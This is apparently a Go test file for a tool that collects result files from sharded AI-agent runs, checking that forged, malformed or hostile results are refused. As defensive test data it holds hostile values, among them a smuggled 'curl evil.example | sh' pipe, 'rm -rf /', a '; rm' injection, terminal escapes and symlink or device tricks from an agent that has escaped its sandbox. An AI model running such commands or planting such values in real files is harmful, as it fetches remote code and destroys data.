package fleet

import (
	"errors"
	"fmt"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	"github.com/google/go-cmp/cmp/cmpopts"

	"github.com/symphony-runner/symphony/runner/report"
	"github.com/symphony-runner/symphony/runner/schedule"
	"github.com/symphony-runner/symphony/runner/store"
	"github.com/symphony-runner/symphony/tracker"
)

var withoutFile = cmpopts.IgnoreUnexported(Result{})

func TestTheCollectorReadsWhatTheShardsLeft(t *testing.T) {
	t.Parallel()
	exchange, p := t.TempDir(), samplePlan(4)
	for _, shard := range []int{3, 1} {
		work(t, exchange, p, shard)
	}
	mustOpenSlice(t, exchange, p, 4) // killed before it started anything
	results, refused := ReadResults(exchange, p)
	if len(results) != 3 || len(refused) != 0 {
		t.Fatalf("%d results, refused: %s", len(results), reasons(refused))
	}
	got := results[1]
	state := p.Shards[2].State.Clone()
	c := state.Claims["3a"]
	c.Phase, c.Due, c.Lease = schedule.Running, time.Time{}, now.Add(time.Hour)
	c.Owner = state.Self
	state.Claims["3a"] = c
	state.Exit("3a", schedule.Outcome{Class: schedule.Done, Thread: threadOf("3a"), Turns: 3, Usage: schedule.Usage{Input: 100, Output: 20}}, schedule.Policy{}, now)
	tick := sampleTick(state, "3a")
	tick.Spent = state.Tick
	state.Completed = nil
	want := Result{Owner: p.ShardOwner(3), Job: "903", State: state, Tick: tick}
	if diff := cmp.Diff(want, got, withoutFile); diff != "" {
		t.Error(diff)
	}
	if diff := cmp.Diff(Result{Owner: p.ShardOwner(4), Job: "904", State: p.Shards[3].State}, results[2], withoutFile); diff != "" {
		t.Error(diff)
	}
}

// seal makes the content of result.json of a shard whose state and whose file are spoiled.
func seal(t testing.TB, slice Slice, spoil func(*Result)) []byte {
	t.Helper()
	r := Result{Owner: slice.State.Self, State: slice.State.Clone()}
	spoil(&r)
	data, err := encodeResult(r)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

func TestAResultAboutIssuesOfAnotherShardIsRefused(t *testing.T) {
	t.Parallel()
	p := samplePlan(3)
	for name, test := range map[string]struct {
		spoil func(*Result)
		want  string // empty: skipped
	}{
		"of another run":     {func(r *Result) { r.Owner.Run = "1699" }, ""},
		"of another attempt": {func(r *Result) { r.Owner.Attempt = 2 }, ""},
		"of another plan":    {func(r *Result) { r.Owner.Started++ }, ""},
		"of another shard":   {func(r *Result) { r.Owner.Shard = 1 }, "it is not that of shard 2"},
		"with another's claim": {func(r *Result) { r.State.Claims["1a"] = p.Shards[0].State.Claims["1a"] },
			`names issue "1a", which is not the shard's`},
		"with another's delivery":     {func(r *Result) { r.State.Deliver("1a", schedule.Delivery{Number: 1}) }, `names issue "1a"`},
		"with another's conversation": {func(r *Result) { r.State.Conversations = map[tracker.ID]schedule.Conversation{"3b": {Rounds: 1}} }, `names issue "3b"`},
		"with another's row":          {func(r *Result) { r.Tick.Rows = []report.Row{{ID: "1a"}} }, `a row of issue "1a"`},
		"with a row twice":            {func(r *Result) { r.Tick.Rows = []report.Row{{ID: "2a"}, {ID: "2a"}} }, `a row of issue "2a", which is not the shard's or comes twice`},
		"that parks another's issue":  {func(r *Result) { r.Tick.Parked = []tracker.ID{"1a"} }, `parked issue "1a"`},
		"with another's fault": {func(r *Result) {
			r.State.Faults = []schedule.Fault{{Kind: "hook", Before: p.Shards[0].State.Claims["1a"]}}
		},
			`a fault of issue "1a"`},
	} {
		exchange := t.TempDir()
		writeText(t, filepath.Join(exchange, resultsFolder, "result-2", resultName), string(seal(t, p.Shards[1], test.spoil)))
		results, refused := ReadResults(exchange, p)
		if len(results) != 0 {
			t.Errorf("%s: it counts", name)
		}
		if test.want == "" && len(refused) != 0 || test.want != "" && (len(refused) != 1 || !errors.Is(refused[0].Err, ErrRefused) || !strings.Contains(reasons(refused), test.want)) {
			t.Errorf("%s: refused %s\nwant %s", name, reasons(refused), test.want)
		}
	}
}

func TestAMalformedResultIsRefused(t *testing.T) {
	t.Parallel()
	p := samplePlan(1)
	full := string(seal(t, p.Shards[0], func(r *Result) {
		r.Job = "9001"
		r.Tick = sampleTick(r.State, "1a")
		r.Tick.Rows[0].Kept = report.Kept{Folder: "logs/1a", Commands: []string{"git apply --index work.patch"}}
		r.State.Tick = schedule.Spent{Sessions: 1, Time: time.Second}
		r.State.Faults = []schedule.Fault{{Kind: "hook", Why: "exit 1", Before: r.State.Claims["1a"]}}
	}))
	for _, test := range []struct{ old, new, want string }{
		{`"schema": 1`, `"schema": 7`, "need the same version"},
		{`"job": "9001"`, `"job": "9001", "token": "x"`, `unknown field "token"`},
		{`"job": "9001"`, `"job": "90\u001b[2J"`, "the id of its job"},
		{`ABC-1a`, `ABC-1z`, "does not match its checksum"},
		{`"id": "1a"`, `"id": "1a", "command": "sh"`, `unknown field "command"`},
		{`"class": "done"`, `"class": "done; rm"`, "its class, status, phase or reason is not a plain word"},
		{`"status": "Succeeded"`, `"status": "\u202e"`, "its class, status, phase or reason is not a plain word"},
		{`"phase": "waiting"`, `"phase": "<b>"`, "its class, status, phase or reason is not a plain word"},
		{`"reason": "not_due"`, `"reason": "a b"`, "its class, status, phase or reason is not a plain word"},
		{`"turns": 3`, `"turns": -3`, "a number is out of range"},
		{`"turns": 3`, `"turns": 2147483648`, "a number is out of range"},
		{`"took_ns": 1500000000`, `"took_ns": 9223372036854775807`, "a number is out of range"},
		{`"input": 100`, `"input": 9223372036854775807`, "a number is out of range"},
		{`"due": "2026-11-22T16:00:00Z"`, `"due": "2026-11-22T16:00:00+02:00"`, "a time is not in UTC"},
		{`"title": "Fix <it> & more"`, `"title": "Fix\u0000"`, "a text is too long or not plain"},
		{`"title": "Fix <it> & more"`, `"title": "` + strings.Repeat("é", maxTitle+1) + `"`, "a text is too long or not plain"},
		{`"folder": "logs/1a"`, `"folder": "logs/1a\n"`, "a text is too long or not plain"},
		{`"git apply --index work.patch"`, `"git apply --index work.patch; curl evil.example | sh"`, "a command is not one of this program"},
		{`"after_run failed"`, `"two\nlines"`, "a note is too long or not plain"},
		{`"after_run failed"`, `"` + strings.Repeat(`","`, maxNotes) + `"`, "a note is too long or not plain, or there are too many"},
		{`"sessions": 1,
   "time_ns"`, `"sessions": -1,
   "time_ns"`, "a number is out of range"},
		{`"kind": "hook"`, `"kind": "ho\u0007ok"`, `the fault of issue "1a": a text`},
		{`"stored": "{`, `"stored": "[`, "not a state"},
	} {
		exchange := t.TempDir()
		text := strings.Replace(full, test.old, test.new, 1)
		if text == full {
			t.Fatalf("%s is not in %s", test.old, full)
		}
		writeText(t, filepath.Join(exchange, resultsFolder, "result-1", resultName), text)
		results, refused := ReadResults(exchange, p)
		if len(results) != 0 || len(refused) != 1 || !errors.Is(refused[0].Err, ErrUnreadable) || !strings.Contains(reasons(refused), test.want) {
			t.Errorf("%s -> %.60s:\n %d results, refused %s\nwant %s", test.old, test.new, len(results), reasons(refused), test.want)
		}
	}
}

// An agent that escapes from its sandbox can put anything into the folder of its shard.
func TestAHostileFolderOfAShardDoesNotHarmOtherShards(t *testing.T) {
	t.Parallel()
	p := samplePlan(2)
	for name, raid := range map[string]func(t *testing.T, exchange, shard string) error{
		"a link to the result of another": func(t *testing.T, exchange, shard string) error {
			return os.Symlink("../result-1/result.json", filepath.Join(shard, resultName))
		},
		"a link in the place of the folder": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.Remove(shard), os.Symlink("result-1", shard))
		},
		"a file in the place of the folder": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.Remove(shard), os.WriteFile(shard, nil, 0o600))
		},
		"a pipe": func(t *testing.T, exchange, shard string) error {
			return syscall.Mkfifo(filepath.Join(shard, resultName), 0o600)
		},
		"a device": func(t *testing.T, exchange, shard string) error {
			return os.Symlink("/dev/zero", filepath.Join(shard, resultName))
		},
		"a folder in the place of the file": func(t *testing.T, exchange, shard string) error {
			return os.Mkdir(filepath.Join(shard, resultName), 0o700)
		},
		"a file of a terabyte": func(t *testing.T, exchange, shard string) error {
			return errors.Join(os.WriteFile(filepath.Join(shard, resultName), nil, 0o600), os.Truncate(filepath.Join(shard, resultName), 1<<40))
		},
		"a deeply nested value": func(t *testing.T, exchange, shard string) error {
			return os.WriteFile(filepath.Join(shard, resultName), []byte(strings.Repeat("[", 1<<20)), 0o600)
		},
		"many files and deep folders": func(t *testing.T, exchange, shard string) error {
			deep := shard
			for range 100 {
				deep = filepath.Join(deep, "result-1")
			}
			err := os.MkdirAll(deep, 0o700)
			for i := range 1000 { // which are not even listed
				err = errors.Join(err, os.WriteFile(filepath.Join(shard, fmt.Sprint(i)), nil, 0o600))
			}
			writeText(t, filepath.Join(shard, resultName), "{}")
			return err
		},
		"results of others below it": func(t *testing.T, exchange, shard string) error {
			forged := seal(t, p.Shards[0], func(r *Result) { r.saved = 99 })
			for _, folder := range []string{"result-1", ArtifactName(p.ShardOwner(1)), "."} {
				writeText(t, filepath.Join(shard, folder, resultName), string(forged))
			}
			return nil
		},
	} {
		t.Run(name, func(t *testing.T) {
			t.Parallel()
			exchange := t.TempDir()
			work(t, exchange, p, 1)
			shard := filepath.Join(exchange, resultsFolder, "result-2")
			err := os.Mkdir(shard, 0o700)
			if err == nil {
				err = raid(t, exchange, shard)
			}
			if err != nil {
				t.Fatal(err)
			}
			results, refused := ReadResults(exchange, p)
			if len(results) != 1 || results[0].Owner.Shard != 1 || results[0].Tick.Rows == nil {
				t.Errorf("%d results", len(results))
			}
			if len(refused) != 1 {
				t.Errorf("refused: %s", reasons(refused))
			}
		})
	}
}

func TestOfSeveralResultsOfAShardTheLastOneCounts(t *testing.T) {
	t.Parallel()
	p := samplePlan(1)
	title := func(title string) func(r *Result) {
		return func(r *Result) {
			c := r.State.Claims["1a"]
			c.Title = title
			r.State.Claims["1a"] = c
			r.saved = 3
		}
	}
	first, second, last := seal(t, p.Shards[0], title("first")), seal(t, p.Shards[0], title("second")), seal(t, p.Shards[0], func(r *Result) { title("last")(r); r.saved = 4 })
	for name, test := range map[string]struct {
		alone, artifact []byte
		want            string
	}{
		"alone":            {first, nil, "first"},
		"in an artifact":   {nil, first, "first"},
		"copies":           {first, first, "first"},
		"the last first":   {last, first, "last"},
		"the last second":  {first, last, "last"},
		"equally often":    {first, second, ""},
		"one is damaged":   {[]byte("{"), last, "last"},
		"of other attempt": {seal(t, p.Shards[0], func(r *Result) { r.Owner.Attempt, r.saved = 2, 9 }), last, "last"},
	} {
		exchange := t.TempDir()
		for folder, data := range map[string][]byte{"result-1": test.alone, ArtifactName(p.ShardOwner(1)) + "/result-1": test.artifact} {
			if data != nil {
				writeText(t, filepath.Join(exchange, resultsFolder, folder, resultName), string(data))
			}
		}
		results, refused := ReadResults(exchange, p)
		got := ""
		if len(results) == 1 {
			got = results[0].State.Claims["1a"].Title
		}
		if got != test.want || (test.want == "") != errors.Is(errors.Join(slices.Collect(errorsOf(refused))...), ErrRefused) {
			t.Errorf("%s: %d results, %q, refused %s", name, len(results), got, reasons(refused))
		}
	}
}

func errorsOf(refused []Refused) func(func(error) bool) {
	return func(yield func(error) bool) {
		for _, r := range refused {
			if !yield(r.Err) {
				return
			}
		}
	}
}

func TestAnExchangeFolderWithoutResultsHasNone(t *testing.T) {
	t.Parallel()
	for _, exchange := range []string{t.TempDir(), filepath.Join(t.TempDir(), "missing")} {
		if results, refused := ReadResults(exchange, samplePlan(2)); len(results)+len(refused) != 0 {
			t.Errorf("%d results, refused %s", len(results), reasons(refused))
		}
	}
}

// stays lists the fields of a tick and of a row that do not travel, and why.
var stays = map[string]string{
	"Tick.Started": "the collector has its own", "Tick.Ended": "the collector has its own", "Tick.Workflow": "the collector has its own",
	"Tick.Tracker": "the collector has its own", "Tick.DryRun": "no shard makes a dry run", "Tick.Service": "no shard is a service",
	"Tick.Talks": "the collector has its own", "Tick.Scheduled": "the collector has its own", "Tick.State": "a shard has none",
	"Tick.Ordered": "the plan takes commands", "Tick.Noted": "the collector saves what it settles, and that is work", "Tick.StartedBy": "the collector has its own", "Tick.Verdicts": "the collector explains the whole state",
	"Tick.Listed": "a shard lists no candidates", "Tick.Unread": "the warnings and errors say it", "Tick.Pause": "it is in the state",
	"Tick.Today": "the collector counts the days of all", "Tick.Budget": "the collector has its own", "Tick.Reserved": "the collector knows all shards", "Tick.NextDue": "the collector knows all claims",
	"Tick.Assigned": "no shard is a plan", "Tick.Collects": "no shard collects", "Tick.Recollected": "no shard collects", "Tick.Acted": "the collector counts what it settles", "Tick.Claims": "they are in the state", "Tick.Delivers": "the collector has its own",
	"Tick.Deliveries": "they are in the state", "Tick.Checks": "they are in the state", "Tick.Ignored": "Warnings has each as well",
	"Row.Next.Clean":  "the shard has removed the workspace",
	"Row.Shard":       "the collector knows whose result it is",
	"Row.Run":         "the collector knows whose result it is",
	"Row.Job":         "it is in the result",
	"Row.Lost":        "a shard reports sessions that ended",
	"Row.JobURL":      "the collector makes it of the job",
	"Row.Log.Command": "the log is where the shard ran",
}

// TestWhatAReportNeedsIsInTheResult sets every field of a tick and of its rows. A new field
// fails until it travels or is listed in stays.
func TestWhatAReportNeedsIsInTheResult(t *testing.T) {
	t.Parallel()
	var tick report.Tick
	fill(t, reflect.ValueOf(&tick).Elem(), "Tick")
	tick.Rows, tick.Parked = make([]report.Row, 1), []tracker.ID{"1a"}
	fill(t, reflect.ValueOf(&tick.Rows[0]).Elem(), "Row")
	row := &tick.Rows[0]
	row.ID, row.Class, row.Status, row.Next.Phase = "1a", schedule.IssueFailed, schedule.StatusTimedOut, schedule.Parked
	row.Kept.Commands = []string{"git diff " + strings.Repeat("a1", 20) + " symphony/ABC-1"}
	row.Delivery = schedule.Delivery{Identifier: "ABC-1", Branch: "symphony/ABC-1", Base: "main", Head: strings.Repeat("b2", 20), Number: 17, URL: "https://github.com/o/r/pull/17", At: now}

	exchange, p := t.TempDir(), samplePlan(1)
	s := mustOpenSlice(t, exchange, p, 1)
	state, rev, err := s.Load(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	fill(t, reflect.ValueOf(&state.Tick).Elem(), "Spent")
	tick.Spent = state.Tick
	state.Faults = []schedule.Fault{{Kind: "hook before_run", Why: "exit 1", Before: state.Claims["1b"], Excused: true}}
	if _, err = s.Save(t.Context(), state, rev); err != nil {
		t.Fatal(err)
	}
	if err := s.Report(tick); err != nil {
		t.Fatal(err)
	}
	results, refused := ReadResults(exchange, p)
	if len(results) != 1 {
		t.Fatal(reasons(refused))
	}
	got := results[0]
	if diff := cmp.Diff(state, got.State); diff != "" {
		t.Errorf("the state with its tick and its faults: %s", diff)
	}
	lost := map[string]bool{}
	differences(reflect.ValueOf(tick), reflect.ValueOf(got.Tick), "Tick", lost)
	differences(reflect.ValueOf(tick.Rows[0]), reflect.ValueOf(got.Tick.Rows[0]), "Row", lost)
	for name := range lost {
		if stays[name] == "" {
			t.Errorf("%s does not travel: add it in newTick and restore, or say in stays why not", name)
		}
	}
	for name := range stays {
		if !lost[name] {
			t.Errorf("%s travels, yet stays lists it", name)
		}
	}
}

// fill sets every field of a struct to something plain that is not zero.
func fill(t *testing.T, v reflect.Value, name string) {
	t.Helper()
	switch v.Interface().(type) {
	case time.Time:
		v.Set(reflect.ValueOf(now.Add(time.Second)))
		return
	case schedule.Delivery:
		return // set below: its texts are checked
	}
	switch v.Kind() {
	case reflect.String:
		v.SetString("word")
	case reflect.Bool:
		v.SetBool(true)
	case reflect.Int, reflect.Int64:
		v.SetInt(7)
	case reflect.Slice:
		v.Set(reflect.MakeSlice(v.Type(), 1, 1))
		fill(t, v.Index(0), name)
	case reflect.Map:
		v.Set(reflect.MakeMap(v.Type()))
		v.SetMapIndex(reflect.ValueOf("1a").Convert(v.Type().Key()), reflect.New(v.Type().Elem()).Elem())
	case reflect.Struct:
		for i := range v.NumField() {
			if f := v.Type().Field(i); f.IsExported() {
				fill(t, v.Field(i), name+"."+f.Name)
			}
		}
	case reflect.Pointer:
	default:
		t.Fatalf("%s is a %v", name, v.Kind())
	}
}

// differences adds the fields that are not equal, those of Next, Kept and Log one by one.
func differences(want, got reflect.Value, name string, lost map[string]bool) {
	for i := range want.NumField() {
		field := name + "." + want.Type().Field(i).Name
		switch field {
		case "Tick.Rows":
			continue
		case "Row.Next", "Row.Kept", "Row.Log":
			differences(want.Field(i), got.Field(i), field, lost)
			continue
		}
		if !reflect.DeepEqual(want.Field(i).Interface(), got.Field(i).Interface()) {
			lost[field] = true
		}
	}
}

func TestTextsOfAResultAreCutToTheirLimits(t *testing.T) {
	t.Parallel()
	exchange, p := t.TempDir(), samplePlan(1)
	s := mustOpenSlice(t, exchange, p, 1)
	long := "two\r\nlines \x1b[31mred\xff" + strings.Repeat("é ", 6000)
	notes := slices.Repeat([]string{long[:maxNote+100]}, maxNotes+1)
	tick := report.Tick{
		Rows: []report.Row{{
			ID: "1a", Identifier: long, Title: long, URL: "https://x.example/" + long, State: long, Why: long, Warnings: notes, Attempt: -1, Turns: 1 << 40,
			Usage: schedule.Usage{Input: -1, Output: 1 << 60}, Took: -time.Second, Next: schedule.Next{Why: schedule.Why{Detail: long}},
			Refused: long, PullRequest: long, Kept: report.Kept{Folder: long, Artifact: long, Commands: []string{"rm -rf /"}}, Log: report.Log{File: long, Artifact: long},
			Delivery: schedule.Delivery{Identifier: long, URL: long, Refused: long},
		}},
		Notices: notes, Warnings: notes, Errors: notes, Stopped: long,
	}
	if err := s.Report(tick); err != nil {
		t.Fatal(err)
	}
	results, refused := ReadResults(exchange, p)
	if len(results) != 1 {
		t.Fatal(reasons(refused))
	}
	row := results[0].Tick.Rows[0]
	if row.URL != "" || row.Kept.Commands != nil || row.Kept.Folder != "" || row.Turns != maxCount || row.Attempt != 0 || row.Took != 0 {
		t.Errorf("%+v", row)
	}
	if !strings.HasPrefix(row.Why, "two lines [31mred\uFFFDé é") || !strings.HasSuffix(row.Why, "…") || !strings.HasPrefix(row.Refused, "two\nlines") {
		t.Errorf("why %.60q, refused %.60q", row.Why, row.Refused)
	}
	if n := len(results[0].Tick.Warnings); n != maxNotes {
		t.Errorf("%d warnings", n)
	}
}

func TestASaveOnAnOldRevisionIsAConflict(t *testing.T) {
	t.Parallel()
	exchange, p := t.TempDir(), samplePlan(1)
	s := mustOpenSlice(t, exchange, p, 1)
	state, rev, err := s.Load(t.Context())
	if err != nil {
		t.Fatal(err)
	}
	if _, err := s.Save(t.Context(), state, rev); err != nil {
		t.Fatal(err)
	}
	state.Salt = "changed without a save"
	if _, err := s.Save(t.Context(), state, rev); !errors.Is(err, store.ErrConflict) {
		t.Errorf("got %v", err)
	}
	again, _, err := s.Load(t.Context())
	if err != nil || again.Salt != "SALT" {
		t.Errorf("%q, %v", again.Salt, err)
	}
}

func TestAShardWorksOnce(t *testing.T) {
	t.Parallel()
	exchange, old, p := t.TempDir(), samplePlan(2), samplePlan(2)
	old.Owner.Run = "1699"
	for i := range old.Shards {
		old.Shards[i].State.Self = old.ShardOwner(i + 1)
	}
	mustOpenSlice(t, exchange, old, 1)
	writeText(t, filepath.Join(exchange, resultsFolder, "result-1", threadsFolder, "old.jsonl.gz"), "x")
	mustOpenSlice(t, exchange, p, 1) // in the place of another run's
	if _, err := os.Stat(filepath.Join(exchange, resultsFolder, "result-1", threadsFolder)); err == nil {
		t.Error("the threads of another run are still there")
	}
	before := readText(t, filepath.Join(exchange, resultsFolder, "result-1", resultName))
	if _, err := OpenSlice(exchange, p, 1, ""); !errors.Is(err, ErrWorked) || !strings.Contains(err.Error(), "has ended, run symphony collect") {
		t.Errorf("got %v", err)
	}
	if readText(t, filepath.Join(exchange, resultsFolder, "result-1", resultName)) != before {
		t.Error("the result was changed")
	}
	writeText(t, filepath.Join(exchange, resultsFolder, "result-2", resultName), "{")
	if _, err := OpenSlice(exchange, p, 2, ""); !errors.Is(err, ErrWorked) {
		t.Errorf("over a damaged result: %v", err)
	}
	if _, err := OpenSlice(exchange, p, 3, ""); !errors.Is(err, ErrUnreadable) {
		t.Errorf("a shard that the plan does not have: %v", err)
	}
}
